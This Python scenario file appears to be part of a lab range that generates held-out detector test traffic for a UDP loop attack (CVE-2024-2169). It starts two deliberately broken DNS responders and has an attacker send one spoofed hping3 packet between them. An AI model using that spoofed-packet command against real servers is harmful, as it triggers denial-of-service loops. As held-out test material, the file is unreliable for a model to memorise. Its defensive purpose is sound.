"""Two name servers that answer answers (CVE-2024-2169 names DNS as well)."""

from lab.range import Range
from lab.scenario import Scenario

# What a broken server does: an error to whatever comes, in its own words.
SERVER = """
import socket, time
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("0.0.0.0", 53))
while True:
    octets, peer = server.recvfrom(2048)
    time.sleep(0.02)
    server.sendto(octets[:2] + b"\\x80\\x01" + bytes(8), peer)
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    one, other = net.inside("files"), net.inside("printer")
    loop = [host.start("/usr/bin/python3", "-c", SERVER) for host in (one, other)]
    net.everyday()
    with net.attack(
        "udp-loop",
        by=[attacker, one, other],
        attackers=[],
        attacker_known=False,
        victims=[one, other],
        also=["ip-spoofing"],
        frames="udp src port 53 and udp dst port 53",
    ):
        words = f"hping3 -q --udp -a {one.ip} -s 53 -k -p 53 -d 20 -c 1 {other.ip}"
        net.tool(attacker, *words.split())
        net.quiet(8)
        for process in loop:
            net.end(process)
    net.quiet(2)


SCENARIO = Scenario(
    name="udp-loop-held-dns",
    about="One forged datagram lets two broken name servers send each other format errors.",
    detectors=("udp-loop",),
    tools={"hping3": "hping3"},
    held_out=True,
    run=run,
)
